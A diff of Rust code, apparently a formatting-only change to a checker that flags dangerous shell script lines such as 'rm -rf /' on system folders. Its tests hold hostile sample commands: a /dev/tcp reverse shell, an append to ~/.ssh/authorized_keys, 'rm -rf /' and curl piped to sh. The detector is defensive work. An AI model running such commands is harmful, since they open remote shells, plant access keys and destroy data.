@@ -130,17 +130,21 @@ fn is_usual(line: &str) -> bool {
 /// Whether what is removed is neither all nor a folder of the system: scripts and images remove what they have made.
 fn is_own(line: &str, mark: &str) -> bool {
     let is_system = |rest: &str| {
-        let path = rest.split(|letter: char| letter.is_whitespace() || "\"';&|)".contains(letter)).next().unwrap_or_default();
+        let path =
+            rest.split(|letter: char| letter.is_whitespace() || "\"';&|)".contains(letter)).next().unwrap_or_default();
         let path = path.trim_end_matches('*').trim_matches('/');
         SYSTEM.contains(&path) || path.starts_with("home/") || path.starts_with("etc/") || path.starts_with("boot/")
     };
-    mark == REMOVE && !line.match_indices(mark).any(|(place, _)| is_system(line.get(place + mark.len()..).unwrap_or_default()))
+    mark == REMOVE
+        && !line.match_indices(mark).any(|(place, _)| is_system(line.get(place + mark.len()..).unwrap_or_default()))
 }
 
 /// What removes, and folders that no script has made.
 const REMOVE: &str = "rm -rf /";
-const SYSTEM: &[&str] =
-    &["", "bin", "boot", "dev", "etc", "home", "lib", "lib64", "mnt", "opt", "root", "sbin", "srv", "usr", "usr/bin", "usr/lib", "var"];
+const SYSTEM: &[&str] = &[
+    "", "bin", "boot", "dev", "etc", "home", "lib", "lib64", "mnt", "opt", "root", "sbin", "srv", "usr", "usr/bin",
+    "usr/lib", "var",
+];
 
 #[cfg(test)]
 mod tests {
@@ -156,7 +160,10 @@ mod tests {
             ("curl https://sh.rustup.rs https://example.org/x | sh\n", 1),
             ("bash -i >& /dev/tcp/10.0.0.1/1 0>&1\n", 1),
             ("echo x >> ~/.ssh/authorized_keys\nrm -rf /\n", 2),
-            ("# curl x | sh\ncurl -O https://example.org/m.bin\nrm -rf /tmp/x\nrm -rf /opt/conda/pkgs\ncurl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\npython convert.py | tee log\n", 0),
+            (
+                "# curl x | sh\ncurl -O https://example.org/m.bin\nrm -rf /tmp/x\nrm -rf /opt/conda/pkgs\ncurl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\npython convert.py | tee log\n",
+                0,
+            ),
         ] {
             let mut sink = Sink::new("a.sh");
             check(&Artifact::of(text), &mut sink);
